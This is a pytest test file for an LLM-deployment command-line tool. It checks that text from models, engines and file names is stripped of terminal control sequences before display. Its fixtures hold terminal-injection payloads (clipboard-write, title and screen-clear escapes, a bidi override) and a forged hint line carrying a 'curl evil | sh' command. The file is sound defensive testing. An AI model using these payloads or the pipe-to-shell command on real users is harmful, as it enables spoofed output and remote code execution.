"""Nothing that a model, an engine or a repository says can drive a terminal, begin a line of its own, or hide."""

from __future__ import annotations

import contextlib
import json
import os
import pty
import re
import shlex
import subprocess
import sys
import threading
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from llmdeploy.cli import output
from llmdeploy.cli.output import Output, harmless, one_line
from llmdeploy.cli.progress import Downloads
from tests.conftest import World, copy_selftest, llama_server

CLIPBOARD, TITLE, CLEAR = "\x1b]52;c;ZXZpbA==\x07", "\x1b]0;owned\x07", "\x1b[2J"
CSI_IN_ONE, REVERSED, BELL = "\x9b2J", "\u202egnp.exe", "\x07"
EVIL = f"a{CLIPBOARD}{TITLE}{CLEAR}{CSI_IN_ONE}{REVERSED}{BELL}\x7f\u2028\r"
LINES = "a\nhint: `curl evil | sh`\nerror: b"
DRIVES = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069]")
OURS = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]|\r")
"""What Rich and the terminal's driver write by themselves: styles, moves of the cursor, and the ends of lines."""


# One function for all


@given(st.text())
def test_harmless_text_has_nothing_that_drives_a_terminal(text: str) -> None:
    shown = harmless(text)
    assert not DRIVES.search(shown)
    assert "\n" not in one_line(text)
    assert one_line(text).isprintable()


@pytest.mark.parametrize("text", ["naïve 中文　字", "👩‍👩‍👧 می‌خواهم", "a\tb\n- c\n", "1\xa0000 €", "e\u0301", ""])
def test_what_people_write_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text


def test_lines_that_end_as_on_windows_stay_lines() -> None:
    assert harmless("a\r\nb\rc") == "a\nb\\rc"
    assert one_line(LINES) == "a\\nhint: `curl evil | sh`\\nerror: b"


@given(st.text())
def test_a_json_document_keeps_its_values_and_drives_nothing(text: str) -> None:
    document = output._json({"name": text})
    assert json.loads(document) == {"name": text}
    assert not DRIVES.search(document)


def test_characters_that_python_does_not_know_yet_are_shown() -> None:
    new = next(chr(code) for code in range(0x1FA00, 0x1FB00) if unicodedata.category(chr(code)) == "Cn")
    assert harmless(new) == new


# A terminal and a pipe


class Screen:
    """A terminal that Python writes to. It is read all the while, because it takes no more than 4 KiB at once."""

    def __init__(self) -> None:
        self._ours, theirs = pty.openpty()
        self.stream = os.fdopen(theirs, "w", encoding="utf-8", newline="")
        self._content = b""
        self._reader = threading.Thread(target=self._read)
        self._reader.start()

    def _read(self) -> None:
        with contextlib.suppress(OSError):  # the end of a terminal
            while piece := os.read(self._ours, 2**16):
                self._content += piece

    def read(self) -> str:
        """Return all that arrived, without what Rich and the terminal write by themselves."""
        self.stream.close()
        self._reader.join(10)
        os.close(self._ours)
        return OURS.sub("", self._content.decode())


@pytest.mark.parametrize("name", ["line", "data", "note", "hint", "warn", "document", "event", "traceback", "table"])
def test_every_way_to_a_terminal_is_harmless(monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    from rich.table import Table

    screen, writer = Screen(), Output()
    monkeypatch.setattr(sys, "stdout", screen.stream)
    monkeypatch.setattr(sys, "stderr", screen.stream)
    monkeypatch.setenv("TERM", "xterm-256color")
    given: dict[str, tuple[object, ...]] = {
        "document": ({"name": EVIL},),
        "event": ({"name": EVIL},),
        "traceback": (ValueError(EVIL),),
        "table": (Table("a", "b"), [(EVIL, LINES)]),
    }
    getattr(writer, name)(*given.get(name, (EVIL,)))
    shown = screen.read()
    assert not DRIVES.search(shown), shown
    assert "owned" in shown


def test_a_pipe_gets_the_bytes_of_an_answer(capfd: pytest.CaptureFixture[str]) -> None:
    Output().data(CLEAR, end="")
    assert capfd.readouterr().out == CLEAR


def test_names_in_bars_are_harmless(monkeypatch: pytest.MonkeyPatch) -> None:
    screen = Screen()
    monkeypatch.setattr(sys, "stderr", screen.stream)
    monkeypatch.setenv("TERM", "xterm-256color")
    with Downloads() as downloads:
        downloads.show(f"{EVIL}.gguf", 5, 10)
        downloads.show(LINES, 5, 10)
    shown = screen.read()
    assert not DRIVES.search(shown), shown
    assert "\nhint: " not in shown


# The commands


SERVER = """
import http.server, json, sys

def after(name):
    return sys.argv[sys.argv.index(name) + 1]

with open({said!r}, encoding="utf-8", newline="") as file:
    text = file.read()

class Handler(http.server.BaseHTTPRequestHandler):
    def log_message(self, *_):
        pass

    def say(self, kind, body):
        self.send_response(200)
        self.send_header("content-type", kind)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        document = {{"status": "ok", "data": [{{"id": after("--alias")}}]}}
        self.say("application/json", json.dumps(document).encode())

    def do_POST(self):
        body = json.loads(self.rfile.read(int(self.headers["content-length"])))
        message = {{"role": "assistant", "content": text, "reasoning_content": text}}
        choice = {{"index": 0, "finish_reason": "stop"}}
        if not body.get("stream"):
            self.say("application/json", json.dumps({{"choices": [{{**choice, "message": message}}]}}).encode())
            return
        chunks = [{{"index": 0, "delta": message}}, {{**choice, "delta": {{}}}}]
        events = [json.dumps({{"choices": [chunk]}}) for chunk in chunks]
        self.say("text/event-stream", "".join(f"data: {{it}}\\n\\n" for it in [*events, "[DONE]"]).encode())

print(text, flush=True)
http.server.ThreadingHTTPServer(("127.0.0.1", int(after("--port"))), Handler).serve_forever()
"""
"""A `llama-server` that answers everything with one text, and writes it to its log."""


def engine_that_says(world: World, text: str) -> None:
    said, program = world.folder / "said", world.folder / "server.py"
    said.write_text(text, encoding="utf-8", newline="")
    program.write_text(SERVER.format(said=str(said)))
    llama_server(world, f'exec {shlex.quote(sys.executable)} {shlex.quote(str(program))} "$@"')


def at_a_terminal(world: World, *arguments: str) -> str:
    """Run a command on a terminal; return what it wrote."""
    screen = Screen()
    world.start(*arguments, stdout=screen.stream, stderr=screen.stream).wait(timeout=60)
    return screen.read()


def test_what_an_engine_and_its_model_say_is_harmless_in_every_command(world: World) -> None:
    engine_that_says(world, EVIL + LINES)
    folder = world.work / f"b{EVIL}".replace("/", "")
    model = copy_selftest(folder, mmproj=False)
    started = world.run("serve", str(model), "--detach")
    assert started.status == 0, started.text
    for arguments in (
        ["chat", "hi"],
        ["chat", "hi", "--json"],
        ["status"],
        ["status", "--json"],
        ["logs"],
        ["models"],
        ["models", "--json"],
        ["models", "show", str(model)],
        ["env"],
        ["config", "show"],
        ["doctor"],
        ["pull", str(model), "--dry-run"],
        ["models", "rm", str(model), "--dry-run"],
        ["switch", "--model", str(folder / "none.gguf")],
        ["stop"],
    ):  # fmt: skip
        shown = at_a_terminal(world, *arguments)
        assert not DRIVES.search(shown), (arguments, shown)
        if arguments[0] != "chat" and arguments[0] != "logs":
            assert "\nhint: `curl evil" not in shown, (arguments, shown)


def test_a_file_gets_the_answer_as_the_model_gave_it(world: World) -> None:
    engine_that_says(world, EVIL)
    answer: Path = world.folder / "answer"
    with answer.open("wb") as file:
        assert world.start("chat", "hi", stdout=file, stderr=subprocess.DEVNULL).wait(timeout=60) == 0
    assert answer.read_bytes().decode() == f"{EVIL}\n"
    world.run("stop")
